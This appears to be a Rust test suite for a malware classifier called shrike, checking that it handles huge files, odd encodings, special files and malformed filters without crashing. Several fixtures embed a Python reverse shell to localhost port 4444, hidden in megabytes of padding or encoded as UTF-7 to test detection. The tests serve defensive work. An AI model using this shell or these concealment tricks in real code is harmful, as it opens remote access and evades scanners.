//! Hostile input to the commands that read files a user points them at (docs/reliability.md,
//! "Hostile input"): each ends in a clear error or a bounded, marked truncation, never in a
//! crash or a hang. The sensor's side is in `live.rs`; events, feeds and filters have their own
//! tests in their crates.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    missing_docs,
    reason = "test code: panicking on a broken fixture is the failure report"
)]

use assert_cmd::Command;
use serde_json::Value;
use std::path::Path;
use std::time::Duration;

/// Far more than any of these takes in a debug build; a hang fails instead of waiting forever.
const TIMEOUT: Duration = Duration::from_secs(120);

fn shrike() -> Command {
    let mut cmd = Command::cargo_bin("shrike").unwrap();
    cmd.timeout(TIMEOUT);
    cmd
}

fn classify_json(files: &[&Path]) -> (Vec<Value>, std::process::Output) {
    let out = shrike()
        .args(["classify", "--json"])
        .args(files)
        .output()
        .unwrap();
    let rows = String::from_utf8(out.stdout.clone())
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    (rows, out)
}

#[test]
fn classify_scores_a_large_file_in_part_and_says_so_whatever_the_verdict() {
    let dir = tempfile::tempdir().unwrap();
    let big = dir.path().join("big.py");
    let line = "x = 'just data, nothing to see'\n";
    std::fs::write(&big, line.repeat((10 << 20) / line.len() + 1)).unwrap();
    let small = dir.path().join("small.py");
    std::fs::write(&small, "print('hello')\n").unwrap();

    let (rows, out) = classify_json(&[&big, &small]);
    assert!(out.status.success(), "{out:?}");
    assert_eq!(rows[0]["malicious"], false, "{}", rows[0]);
    // The first 8 MiB in windows, and the last 1 MiB from its first line's start.
    let size = std::fs::metadata(&big).unwrap().len();
    let into_line = (size - (1 << 20)) % line.len() as u64;
    let tail = (1 << 20) - (line.len() as u64 - into_line);
    assert_eq!(rows[0]["truncated"], true, "{}", rows[0]);
    assert_eq!(rows[0]["size"], size);
    assert_eq!(rows[0]["scored_bytes"], 8 << 20);
    assert_eq!(rows[0]["scored_tail_bytes"], tail, "{}", rows[0]);
    assert_eq!(rows[0]["windows"], 10, "{}", rows[0]);
    assert!(rows[1].get("truncated").is_none(), "{}", rows[1]);

    // The table says so too, benign or not.
    let out = shrike().arg("classify").arg(&big).output().unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    let row = text.lines().find(|l| l.contains("big.py")).unwrap();
    assert!(row.contains("benign"), "{text}");
    let part = format!(
        "scored the first 8388608 and the last {tail} of {size} bytes, in 10 windows scored each on its own"
    );
    assert!(row.contains(&part), "{text}");
}

#[test]
fn classify_scores_a_long_file_in_windows_and_finds_code_in_its_middle() {
    // A reverse shell with 1.5 MB of ordinary code on each side: a window holds it whole.
    let dir = tempfile::tempdir().unwrap();
    let settings = |from: usize, bytes: usize| {
        let mut text = String::new();
        let mut i = from;
        while text.len() < bytes {
            text.push_str(&format!(
                "settings[\"option_{i}\"] = json.loads(os.environ.get(\"OPTION_{i}\", \"null\"))\n"
            ));
            i += 1;
        }
        text
    };
    let mut text = String::from("import json\nimport os\n\nsettings = {}\n");
    text.push_str(&settings(0, 1_500_000));
    text.push_str(
        "import socket, pty\nsock = socket.create_connection((\"127.0.0.1\", 4444))\n\
         for fd in (0, 1, 2):\n    os.dup2(sock.fileno(), fd)\npty.spawn(\"/bin/bash\")\n",
    );
    text.push_str(&settings(1_000_000, 1_500_000));
    let middle = dir.path().join("middle.py");
    std::fs::write(&middle, &text).unwrap();
    let (rows, out) = classify_json(&[&middle]);
    assert!(out.status.success(), "{out:?}");
    assert_eq!(rows[0]["malicious"], true, "{}", rows[0]);
    assert!(
        rows[0]["reasons"].to_string().contains("dup2"),
        "{}",
        rows[0]
    );
    assert!(rows[0].get("truncated").is_none(), "{}", rows[0]);
    assert_eq!(rows[0]["scored_bytes"], text.len());
    assert_eq!(rows[0]["windows"], 3, "{}", rows[0]);
}

#[test]
fn classify_reads_a_long_file_whole_as_python_does_before_cutting_windows() {
    let dir = tempfile::tempdir().unwrap();
    let handlers = |tag: &str, bytes: usize| {
        let mut text = String::new();
        let mut i = 0;
        while text.len() < bytes {
            text.push_str(&format!(
                "def handler_{tag}_{i}(request):\n    return request.get(\"key_{i}\")\n\n"
            ));
            i += 1;
        }
        text
    };
    let shell = "import socket, pty, os\nsock = socket.create_connection((\"127.0.0.1\", 4444))\n\
                 for fd in (0, 1, 2):\n    os.dup2(sock.fileno(), fd)\npty.spawn(\"/bin/bash\")\n";
    // Each line of the shell as one UTF-7 run, in the middle of a file that declares UTF-7 on
    // its first line: Python decodes all of it, so the windows are cut from the decoded text.
    let utf7 = |line: &str| {
        const B64: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let units: Vec<u8> = line.encode_utf16().flat_map(u16::to_be_bytes).collect();
        let mut run = String::from("+");
        for chunk in units.chunks(3) {
            let n =
                chunk.iter().fold(0u32, |n, &b| n << 8 | u32::from(b)) << (8 * (3 - chunk.len()));
            for i in 0..=chunk.len() {
                run.push(B64[(n >> (18 - 6 * i) & 63) as usize] as char);
            }
        }
        run + "-\n"
    };
    let declared = format!(
        "# -*- coding: utf-7 -*-\n{}{}{}",
        handlers("a", 1_500_000),
        shell.lines().map(utf7).collect::<String>(),
        handlers("b", 1_500_000)
    );
    // A docstring across the second window's start (960 KiB), the shell after it past the end
    // of the first window (1 MiB): the second window starts after the docstring, not in it.
    let mut across = handlers("a", (960 << 10) - 300);
    across.push_str("NOTES = \"\"\"\n");
    while across.len() < (1 << 20) + 500 {
        across.push_str("notes on the handlers and their requests\n");
    }
    across.push_str("\"\"\"\n");
    across.push_str(shell);
    across.push_str(&handlers("b", 2_000_000));
    let paths = [dir.path().join("declared.py"), dir.path().join("across.py")];
    std::fs::write(&paths[0], &declared).unwrap();
    std::fs::write(&paths[1], &across).unwrap();
    let (rows, out) = classify_json(&[&paths[0], &paths[1]]);
    assert!(out.status.success(), "{out:?}");
    for row in &rows {
        assert_eq!(row["malicious"], true, "{row}");
        assert!(row["reasons"].to_string().contains("dup2"), "{row}");
        assert!(row["windows"].as_u64().unwrap() >= 3, "{row}");
    }
}

#[test]
fn classify_scores_the_end_of_a_large_file_too() {
    // A reverse shell after 9 MiB of ordinary code: the start alone is benign, the end is not.
    let dir = tempfile::tempdir().unwrap();
    let padded = dir.path().join("padded.py");
    let mut text = String::from("import json\nimport os\n\nsettings = {}\n");
    let mut i = 0;
    while text.len() < 9 << 20 {
        text.push_str(&format!(
            "settings[\"option_{i}\"] = json.loads(os.environ.get(\"OPTION_{i}\", \"null\"))\n"
        ));
        i += 1;
    }
    let start = dir.path().join("start.py");
    std::fs::write(&start, &text[..7 << 20]).unwrap();
    text.push_str(
        "import socket, pty\nsock = socket.create_connection((\"127.0.0.1\", 4444))\n\
         for fd in (0, 1, 2):\n    os.dup2(sock.fileno(), fd)\npty.spawn(\"/bin/bash\")\n",
    );
    std::fs::write(&padded, &text).unwrap();
    let (rows, out) = classify_json(&[&padded, &start]);
    assert!(out.status.success(), "{out:?}");
    assert_eq!(rows[0]["malicious"], true, "{}", rows[0]);
    assert!(rows[0]["scored_tail_bytes"].as_u64().unwrap() > (1 << 20) - 200);
    let reasons = rows[0]["reasons"].to_string();
    assert!(reasons.contains("dup2"), "{reasons}");
    assert_eq!(rows[1]["malicious"], false, "{}", rows[1]);
}

#[test]
fn classify_scores_odd_encodings_and_pathological_sources() {
    let dir = tempfile::tempdir().unwrap();
    let utf16: Vec<u8> = [0xff, 0xfe]
        .into_iter()
        .chain(
            "import os\nos.system('id')\n"
                .encode_utf16()
                .flat_map(u16::to_le_bytes),
        )
        .collect();
    let mut noise = Vec::with_capacity(1 << 20);
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    while noise.len() < 1 << 20 {
        // xorshift: reproducible bytes, every value present.
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        noise.extend_from_slice(&state.to_le_bytes());
    }
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("utf16.py", utf16),
        (
            "latin1.py",
            b"# -*- coding: latin-1 -*-\nprint('caf\xe9')\n".to_vec(),
        ),
        ("utf7.py", b"# coding: utf-7\n+AGk-mport os\n".to_vec()),
        ("bom.py", b"\xef\xbb\xbfprint(1)\n".to_vec()),
        ("nul.py", b"print(1)\0\0\xff\xfe garbage\n".to_vec()),
        ("noise.py", noise),
        ("empty.py", Vec::new()),
        // 8 MiB scored: nesting and one huge string.
        (
            "parens.py",
            [b"(".repeat(5 << 20), b")".repeat(5 << 20)].concat(),
        ),
        (
            "string.py",
            [&b"x = '"[..], &b"A".repeat(10 << 20), b"'\n"].concat(),
        ),
    ];
    let paths: Vec<_> = cases
        .iter()
        .map(|(name, bytes)| {
            let p = dir.path().join(name);
            std::fs::write(&p, bytes).unwrap();
            p
        })
        .collect();
    let refs: Vec<&Path> = paths.iter().map(|p| p.as_path()).collect();
    let (rows, out) = classify_json(&refs);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(rows.len(), cases.len());
    for (row, (name, bytes)) in rows.iter().zip(&cases) {
        assert!(row["path"].as_str().unwrap().ends_with(name), "{row}");
        let score = row["score"].as_f64().unwrap();
        assert!((0.0..=1.0).contains(&score), "{row}");
        assert_eq!(
            row.get("truncated").is_some(),
            bytes.len() > 8 << 20,
            "{row}"
        );
    }
}

#[test]
fn classify_refuses_fifos_devices_and_loops_without_waiting() {
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("pipe.py");
    assert!(std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap()
        .success());
    let looped = dir.path().join("loop.py");
    std::os::unix::fs::symlink(&looped, &looped).unwrap();
    let ok = dir.path().join("ok.py");
    std::fs::write(&ok, "print(1)\n").unwrap();
    let (rows, out) = classify_json(&[&fifo, Path::new("/dev/zero"), &looped, &ok]);
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    assert!(String::from_utf8_lossy(&out.stderr).contains("3 input(s) could not be read"));
    assert_eq!(rows[0]["error"], "not a regular file", "{}", rows[0]);
    assert_eq!(rows[1]["error"], "not a regular file", "{}", rows[1]);
    assert!(
        rows[2]["error"]
            .as_str()
            .unwrap()
            .contains("symbolic links"),
        "{}",
        rows[2]
    );
    assert!(rows[3]["score"].is_number());
}

#[test]
fn findings_filters_that_are_not_utf8_deep_or_huge_are_refused_with_their_column() {
    // Each filter stays under the kernel's 128 KiB limit for one argument.
    use std::os::unix::ffi::OsStrExt;
    let dir = tempfile::tempdir().unwrap();
    let store = format!("sqlite:{}", dir.path().join("s.db").display());
    let list = |filter: &std::ffi::OsStr| {
        shrike()
            .args(["findings", "list", "--store", &store, "--filter"])
            .arg(filter)
            .output()
            .unwrap()
    };
    let cases: Vec<(Vec<u8>, String)> = vec![
        (b"category=\"\xff\"".to_vec(), "invalid UTF-8".into()),
        (
            "(".repeat(100_000).into_bytes(),
            "column 33: nested more than 32 levels deep".into(),
        ),
        (
            "NOT ".repeat(30_000).into_bytes(),
            "nested more than 32 levels deep".into(),
        ),
        (
            format!("category=\"{}", "x".repeat(120_000)).into_bytes(),
            "column 10".into(),
        ),
        (
            "category=\"a\" AND ".repeat(7_000).into_bytes(),
            "column 118997: 'AND' needs a condition on its right".into(),
        ),
        (
            "category=\"a\u{202e}b\" OR \u{202e}".into(),
            "column 19: unknown field".into(),
        ),
    ];
    for (filter, expected) in cases {
        let out = list(std::ffi::OsStr::from_bytes(&filter));
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{stderr}");
        assert!(stderr.contains(&expected), "{expected}: {stderr}");
        assert!(
            stderr.len() < 4096,
            "the error quotes the filter shortly: {} bytes",
            stderr.len()
        );
    }
}
